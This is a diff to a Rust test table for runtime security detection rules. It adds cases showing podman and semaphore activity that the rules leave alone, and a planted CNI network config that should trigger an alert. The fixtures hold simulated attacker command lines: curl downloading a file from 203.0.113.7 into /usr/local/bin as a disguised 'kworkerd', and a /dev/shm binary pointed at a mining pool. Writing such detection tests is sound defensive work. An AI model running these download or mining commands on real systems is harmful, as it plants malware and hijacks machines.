@@ -211,6 +211,37 @@ const ROWS: &[Row] = &[
     // --- Write below binary directory
     Row {
         rule: "Write below binary directory",
+        what: "podman unpacks an image layer (its own binary re-executed, chrooted into the layer)",
+        build: |s| {
+            let pm = run(s, "/usr/bin/podman", &["import", "rootfs.tar", "img"]);
+            let exe = s.spawn(
+                pm,
+                Cmd::new("/proc/self/exe", &["/", "/var/lib/containers/storage/overlay/x/diff"]).comm("exe"),
+            );
+            s.open(exe, 5, "/bin/busybox", flags::CREATE);
+        },
+        expect: Expect::Holds,
+    },
+    Row {
+        rule: "Write below etc",
+        what: "podman takes its CNI network lock",
+        build: |s| {
+            let pm = run(s, "/usr/bin/podman", &["run", "--rm", "img", "true"]);
+            s.open(pm, 5, "/etc/cni/net.d/cni.lock", flags::CREATE);
+        },
+        expect: Expect::Holds,
+    },
+    Row {
+        rule: "Write below etc",
+        what: "a shell drops a CNI network configuration",
+        build: |s| {
+            let p = run(s, "/usr/bin/tee", &["/etc/cni/net.d/00-evil.conflist"]);
+            s.open(p, 3, "/etc/cni/net.d/00-evil.conflist", flags::CREATE);
+        },
+        expect: Expect::Fires(&[("fd.name", "/etc/cni/net.d/00-evil.conflist"), ("proc.name", "tee")]),
+    },
+    Row {
+        rule: "Write below binary directory",
         what: "curl writes into /usr/local/bin",
         build: |s| {
             let p = run(s, "/usr/bin/curl", &["-o", "/usr/local/bin/kworkerd", "http://203.0.113.7/x"]);
@@ -436,12 +467,21 @@ const ROWS: &[Row] = &[
         expect: Expect::Fires(&[("proc.exepath", "/tmp/.x/kworker"), ("proc.pname", "bash")]),
     },
     Row {
-        rule: "Execution from a temporary directory",
+        rule: "Execution from shared memory",
         what: "a binary dropped in /dev/shm runs",
         build: |s| {
             run(s, "/dev/shm/x", &["--pool", "203.0.113.7:3333"]);
         },
         expect: Expect::Fires(&[("proc.exepath", "/dev/shm/x")]),
+    },
+    Row {
+        rule: "Execution from shared memory",
+        what: "a program uses a POSIX semaphore file in /dev/shm",
+        build: |s| {
+            let p = run(s, "/usr/bin/python3", &["worker.py"]);
+            s.open(p, 3, "/dev/shm/sem.worker", flags::CREATE);
+        },
+        expect: Expect::Holds,
     },
     Row {
         rule: "Execution from a temporary directory",
